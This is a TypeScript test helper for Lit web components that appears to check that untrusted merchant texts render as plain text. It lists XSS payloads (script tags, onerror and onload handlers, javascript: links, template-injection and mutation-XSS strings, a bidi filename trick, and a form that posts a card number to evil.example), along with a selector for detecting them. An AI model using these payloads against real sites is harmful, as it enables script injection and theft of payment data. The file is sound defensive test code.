import { fixture, html } from '@open-wc/testing';
import { type TemplateResult, type nothing, render } from 'lit';

/** Texts of a merchant or the service that would run script if they became markup. */
export const HOSTILE_TEXTS = [
  '<script>window.ranHere = 1</script>',
  '<img src=x onerror="window.ranHere = 1">',
  '"><svg onload="window.ranHere = 1">',
  "'><iframe srcdoc='<script>parent.ranHere = 1</script>'></iframe>",
  '<a href="javascript:window.ranHere = 1">free</a>',
  '<style>* { display: none }</style>',
  '</bdi></li><form action="//evil.example"><input name="number">',
  '<!--><img src=x onerror="window.ranHere = 1">-->',
  '${window.ranHere = 1}{{constructor.constructor("window.ranHere = 1")()}}',
  '<math><mtext><table><mglyph><style><img src onerror="window.ranHere = 1">',
  '\u202egnp.eet\u202c',
  '<template><script>window.ranHere = 1</script></template>',
  '&lt;img src=x onerror="window.ranHere = 1"&gt;',
] as const;

/** Elements and attributes that no view renders, but that hostile texts would create as markup. */
export const FOREIGN_MARKUP =
  'script, iframe, style, math, form[action], input[name="number"], [onerror], [onload], a[href^="javascript"]';

/** Renders `view` in the page. */
export async function show(view: TemplateResult | typeof nothing): Promise<HTMLElement> {
  const root = await fixture<HTMLElement>(html`<div></div>`);
  render(view, root);
  return root;
}

/** The text of `element`, with single spaces. */
export function textOf(element: Element | null | undefined): string {
  return (element?.textContent ?? '').replaceAll(/\s+/g, ' ').trim();
}
